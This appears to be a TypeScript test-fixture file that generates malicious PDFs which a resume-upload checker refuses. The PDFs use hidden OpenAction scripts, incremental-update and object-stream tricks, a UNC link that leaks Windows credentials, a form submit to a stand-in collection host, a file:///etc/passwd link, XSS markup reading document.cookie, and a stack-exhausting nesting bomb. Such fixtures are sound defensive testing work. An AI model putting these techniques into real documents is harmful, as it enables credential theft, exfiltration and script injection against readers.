import { deflateSync } from 'node:zlib';
import { onePageObjects, pdfFromObjects, samplePdf } from '@inklined/test-kit/sample-pdf';

/**
 * PDFs that hide what they do in the structure a viewer reads and a naive checker does not, or
 * that a browser would read as a page: issue 18's findings and their relatives. Each is refused
 * (email-service/fixtures/resumes/refused holds them as files).
 */

const [catalog, pages, page, content, font] = onePageObjects();
const withCatalog = (entries: string) => catalog!.replace(/>>$/, `${entries} >>`);
const withPage = (entries: string) => page!.replace(/>>$/, `${entries} >>`);

/**
 * Object 1 twice: a harmless catalog first, then one that runs `action` on opening; the
 * cross-reference table points to the second, which is the one a viewer uses.
 */
export function pdfWithDuplicateObject(action = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'): Buffer {
  const objects = [catalog!, pages!, page!, content!, font!];
  let body = '%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets[index] = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  offsets[0] = body.length;
  body += `1 0 obj\n${withCatalog(`/OpenAction 6 0 R`)}\nendobj\n`;
  offsets[5] = body.length;
  body += `6 0 obj\n${action}\nendobj\n`;
  const xref = body.length;
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  body += `xref\n0 7\n0000000000 65535 f \n${entries}trailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** A clean file, then an incremental update that replaces the catalog with one that runs a script. */
export function pdfWithIncrementalUpdate(): Buffer {
  const original = samplePdf();
  const start = original.length;
  const update = `1 0 obj\n${withCatalog('/OpenAction << /S /Rendition /JS (app.launchURL\\("http://198.51.100.1"\\)) >>')}\nendobj\n`;
  const xref = start + update.length;
  const previous = /startxref\n(\d+)/.exec(original.toString('latin1'))![1];
  const tail = `xref\n0 1\n0000000000 65535 f \n1 1\n${String(start).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${previous} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.concat([original, Buffer.from(update + tail, 'latin1')]);
}

/** The page with one annotation, object 6; `more` are the objects after it that it refers to. */
const withAnnotation = (annotation: string, ...more: string[]) =>
  pdfFromObjects([catalog!, pages!, withPage('/Annots [6 0 R]'), content!, font!, annotation, ...more]);

/** A link annotation on the whole page whose action is `action`. */
const withLinkAction = (action: string) =>
  withAnnotation(`<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} >>`);

/** Opens a file on another machine (a UNC share leaks the reader's Windows credentials). */
export const pdfWithRemoteGoTo = () =>
  withLinkAction('<< /S /GoToR /F (\\\\\\\\198.51.100.1\\\\share\\\\cv.pdf) /D [0 /Fit] >>');
export const pdfWithFileLink = () => withLinkAction('<< /S /URI /URI (file:///etc/passwd) >>');
export const pdfWithScriptLink = () => withLinkAction('<< /S /URI /URI (javascript:alert\\(document.domain\\)) >>');
/** An action no name list mentions: plays media, refused because it is not a link or a page move. */
export const pdfWithRendition = () => withLinkAction('<< /S /Rendition /OP 0 >>');
export const pdfWithSubmitForm = () =>
  withLinkAction('<< /S /Sub#6DitForm /F << /FS /URL /F (https://198.51.100.1/collect) >> >>');
/** A viewer command of the Named kind other than a page move (here: print). */
export const pdfWithNamedPrint = () => withLinkAction('<< /S /Named /N /Print >>');

/** A sound annotation: plays a file carried in the document. */
export const pdfWithSoundAnnotation = () =>
  withAnnotation(
    '<< /Type /Annot /Subtype /Sound /Rect [0 0 10 10] /Sound 7 0 R >>',
    '<< /Type /Sound /R 8000 /Length 4 >>\nstream\nRIFF\nendstream',
  );

/** An XFA form (XML forms with their own scripting), in the AcroForm dictionary. */
export const pdfWithXfa = () =>
  pdfFromObjects([
    withCatalog('/AcroForm << /Fields [] /XF#41 6 0 R >>'),
    pages!,
    page!,
    content!,
    font!,
    '<< /Length 0 >>\nstream\n\nendstream',
  ]);

/** A JBIG2 image (a decoder with a history of exploits, and no writer of resumes uses it). */
export const pdfWithJbig2 = () =>
  pdfFromObjects([
    catalog!,
    pages!,
    page!,
    content!,
    font!,
    '<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /JBIG2Decode /Length 1 >>\nstream\nx\nendstream',
  ]);

/**
 * Markup a browser would run, in the document information's title (a literal string outside any
 * stream). The dictionary is not even referenced: every object counts.
 */
export const pdfWithMarkupInTitle = () =>
  pdfFromObjects([catalog!, pages!, page!, content!, font!, '<< /Title (<details open ontoggle=alert\\(1\\)>) >>']);

/** Markup in the page's text, in an uncompressed content stream. */
export const pdfWithMarkupInContent = () =>
  pdfFromObjects(onePageObjects('<img src=x onerror=alert(document.cookie)>'));

/** HTML between two objects: not PDF at all there, and a browser reading the file renders it. */
export const pdfWithHtmlBetweenObjects = () => {
  const bytes = samplePdf().toString('latin1');
  const at = bytes.indexOf('2 0 obj');
  return Buffer.from(`${bytes.slice(0, at)}<svg/onload=alert(1)>\n${bytes.slice(at)}`, 'latin1');
};

/** XMP metadata that is HTML rather than namespaced XML. */
export const pdfWithHtmlMetadata = () => {
  const xml = '<html><body onload="alert(1)">resume</body></html>';
  return pdfFromObjects([
    withCatalog('/Metadata 6 0 R'),
    pages!,
    page!,
    content!,
    font!,
    `<< /Type /Metadata /Subtype /XML /Length ${xml.length} >>\nstream\n${xml}\nendstream`,
  ]);
};

/** Arrays nested 100 000 deep: a parser that recurses runs out of stack. */
export const pdfNestedTooDeep = () =>
  pdfFromObjects([catalog!, pages!, page!, content!, font!, `${'['.repeat(100_000)}${']'.repeat(100_000)}`]);

/** JavaScript in an object stream that the catalog's second copy, in another object stream, points to. */
export function pdfWithScriptInObjectStream(): Buffer {
  const inside = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
  const header = '7 0 ';
  const data = deflateSync(Buffer.from(header + inside, 'latin1'));
  return pdfFromObjects([
    withCatalog('/OpenAction 7 0 R'),
    pages!,
    page!,
    content!,
    font!,
    `<< /Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`,
  ]);
}
